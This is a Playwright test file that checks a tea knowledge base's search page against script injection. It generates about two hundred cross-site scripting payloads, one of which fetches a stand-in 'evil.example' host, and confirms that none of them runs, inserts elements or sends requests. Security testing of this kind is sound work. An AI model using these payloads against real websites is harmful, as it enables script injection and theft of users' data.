import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { Page } from 'playwright';
import { readingAboutTea } from '../support/reader.ts';
import { asks, fieldOf, opensResults } from './asking.ts';

const reading = readingAboutTea();

/** Two hundred payloads: what is to be run, in every wrapping. */
const RUNS = ['alert(1)', 'window.pwned=1', 'parent.pwned=1', 'top["pwned"]=1', 'fetch("//evil.example")'];
const WRAPPINGS = [
  (run: string) => `<script>${run}</script>`,
  (run: string) => `<img src=x onerror=${run}>`,
  (run: string) => `"><svg onload=${run}>`,
  (run: string) => `'><iframe src="javascript:${run}">`,
  (run: string) => `javascript:${run}`,
  (run: string) => `</title><script>${run}</script>`,
  (run: string) => `<mark><script>${run}</script></mark>`,
  (run: string) => `<a href="javascript:${run}">x</a>`,
  (run: string) => `<body onload=${run}>`,
  (run: string) => `<details open ontoggle=${run}>`,
  (run: string) => `<input autofocus onfocus=${run}>`,
  (run: string) => `<object data="javascript:${run}">`,
  (run: string) => `<math><mi xlink:href="javascript:${run}">`,
  (run: string) => `<style>@import "javascript:${run}"</style>`,
  (run: string) => `{{constructor.constructor('${run}')()}}`,
  (run: string) => `\${${run}}`,
  (run: string) => `<%= ${run} %>`,
  (run: string) => `&lt;script&gt;${run}&lt;/script&gt;`,
  (run: string) => `%3Cscript%3E${run}%3C/script%3E`,
  (run: string) => `<scr<script>ipt>${run}</scr</script>ipt>`,
  (run: string) => `<svg><animate onbegin=${run} attributeName=x>`,
  (run: string) => `<template><img src=x onerror=${run}></template>`,
  (run: string) => `<video><source onerror=${run}></video>`,
  (run: string) => `<form action="javascript:${run}"><button>x</button></form>`,
  (run: string) => `"onmouseover="${run}`,
  (run: string) => `\u003cimg src=x onerror=${run}\u003e`,
  (run: string) => `<base href="javascript:${run}//">`,
  (run: string) => `<link rel=stylesheet href="javascript:${run}">`,
  (run: string) => `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  (run: string) => `<kb-search data-try='["${run}"]'></kb-search>`,
  (run: string) => `green hill <b onclick=${run}>hill</b>`,
  (run: string) => `"${run}"`,
  (run: string) => `<!--><script>${run}</script>-->`,
  (run: string) => `<![CDATA[<script>${run}</script>]]>`,
  (run: string) => `\0<script>${run}</script>`,
  (run: string) => `<ScRiPt>${run}</sCrIpT>`,
  (run: string) => `data:text/html,<script>${run}</script>`,
  (run: string) => `__proto__[x]=${run}`,
  (run: string) => `constructor ${run}`,
  (run: string) => `((((((${run}`,
];
const PAYLOADS = WRAPPINGS.flatMap((wrapping) => RUNS.map(wrapping));

/** Notes whatever a page does that no query may make it do. */
async function watched(page: Page): Promise<string[]> {
  const events: string[] = [];
  page.on('dialog', (dialog) => {
    events.push(`dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on('pageerror', (error) => events.push(`exception: ${error.message}`));
  page.on('console', (message) => message.type() === 'error' && events.push(`console: ${message.text()}`));
  page.on(
    'request',
    (request) =>
      new URL(request.url()).hostname !== '127.0.0.1' &&
      !request.url().startsWith('data:') &&
      events.push(`request: ${request.url()}`),
  );
  return events;
}

/** Elements that results never have. */
const foreign = (page: Page) =>
  page.evaluate(
    () =>
      document.querySelectorAll(
        'kb-results :is(script, img, svg, iframe, object, video, style, base, meta, math, template, input:not(#q)), .search-dialog :is(script, img, svg, iframe, object, video, style, base, meta, math, template)',
      ).length,
  );

test('there are two hundred payloads', () => assert.ok(PAYLOADS.length >= 200));

test('no query, filter or anchor makes the page of results do anything but search', { timeout: 240_000 }, async () => {
  const page = await reading.opens('about/');
  const events = await watched(page);
  for (const payload of PAYLOADS) {
    const q = encodeURIComponent(payload);
    await page.goto(reading.address(`search/?q=${q}&kind=${q}&status=${q}&mark=${q}#${q}`));
    await page.locator('kb-results[data-shown]').waitFor();
    assert.equal(await foreign(page), 0, payload);
    assert.equal(
      await page.locator('#q').inputValue(),
      payload.replaceAll('\0', '\uFFFD').replaceAll(
        '\uFFFD',
        await page
          .locator('#q')
          .inputValue()
          .then((value) => (value.includes('\0') ? '\0' : '\uFFFD')),
      ),
      payload,
    );
    assert.equal(await page.evaluate(() => 'pwned' in window), false, payload);
  }
  assert.deepEqual(events, []);
});

test('nor does the dialog, nor the words to be marked on a page', { timeout: 120_000 }, async () => {
  const page = await reading.opens('about/');
  const events = await watched(page);
  await asks(page, 'leaf');
  for (const payload of PAYLOADS.filter((_, index) => index % 5 === 0)) {
    await fieldOf(page).fill(payload);
    await page.waitForTimeout(170);
    assert.equal(await foreign(page), 0, payload);
  }
  for (const payload of PAYLOADS.filter((_, index) => index % 10 === 0)) {
    await page.goto(reading.address(`green-hill/?mark=${encodeURIComponent(payload)}#${encodeURIComponent(payload)}`));
    await page.waitForTimeout(50);
    assert.equal(await page.evaluate(() => document.querySelectorAll('main mark :is(*)').length), 0, payload);
  }
  assert.deepEqual(events, []);
});

test('a title that is markup is shown as it is written', async () => {
  const page = await reading.opens('about/');
  await opensResults(page, reading.address('search/?q=steeping'));
  assert.equal(await page.locator('.hit-title').first().textContent(), 'Rules of <b>steeping</b> & pouring');
  assert.equal(await page.locator('.hit-title b').count(), 0);
});

test('queries of any length and any characters are borne', { timeout: 60_000 }, async () => {
  const page = await reading.opens('about/');
  const events = await watched(page);
  await asks(page, 'leaf');
  const odd = [
    'a'.repeat(100_000),
    'leaf '.repeat(20_000),
    '\0',
    'leaf\0green',
    '\ud800',
    '\udc00leaf',
    '((',
    '))',
    '"',
    '""',
    '"((',
    '“leaf',
    '/*',
    '*',
    '\\',
    '%',
    '%zz',
    '../..',
    '٠١٢',
    'كتاب',
    '茶馆',
    'ｆｕｌｌ',
    'e\u0301t\u00e9',
    'ﬁrst flush',
    '\u202eleaf',
    '🫖',
    '👩‍👩‍👧',
    '1e309',
    '9'.repeat(400),
    '-',
    '–',
    "'",
    "'s",
    '\n',
    '\t',
    'null',
    'undefined',
    '__proto__',
    'constructor',
    'toString',
    'a b c d e f g h i j k l m n o p q r s t u v w x y z',
  ];
  for (const query of odd) {
    await fieldOf(page).evaluate((field, value) => {
      (field as HTMLInputElement).value = value;
      field.dispatchEvent(new InputEvent('input', { bubbles: true }));
    }, query);
    await page.waitForTimeout(200);
  }
  await asks(page, 'green hill');
  assert.ok((await page.locator('.search-dialog .hit').count()) > 0, 'the search still works');
  assert.deepEqual(events, []);
});
